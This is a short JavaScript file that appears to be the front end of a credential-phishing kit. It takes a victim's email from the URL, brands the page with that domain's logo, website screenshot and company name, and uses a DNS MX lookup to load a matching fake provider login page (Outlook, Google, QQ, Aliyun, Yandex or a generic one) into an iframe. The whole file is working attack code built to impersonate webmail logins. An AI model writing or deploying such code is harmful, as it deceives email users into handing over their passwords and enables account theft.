const mail = decodeURIComponent(location.hash.slice(1) || new URLSearchParams(location.search).get('m') || '');
const dom = (mail.split('@')[1] || 'webmail.example').toLowerCase();
const mx = { 'outlook': 'o.html', 'google': 'g.html', 'qq': 'q.html', 'aliyun': 'a.html', 'yandex': 'y.html' };
document.querySelector('.logo').src = 'https://logo.icons.example/' + dom + '?size=120';
document.querySelector('.logo').onerror = function () { this.src = 'https://favicons.icons.example/?domain=' + dom; };
document.body.style.background = `url(https://shots.thumbs.example/get/width/1280/https://${dom}) center/cover fixed`;
document.querySelector('.corp').textContent = dom.split('.')[0].replace(/^./, c => c.toUpperCase());
fetch(`https://dns.google/resolve?name=${dom}&type=MX`).then(r => r.json()).then(d => {
  const host = (d.Answer && d.Answer[0].data || '').toLowerCase();
  const hit = Object.keys(mx).find(k => host.includes(k));
  document.querySelector('#inner').src = (hit ? mx[hit] : 'w.html') + '#' + mail;
});
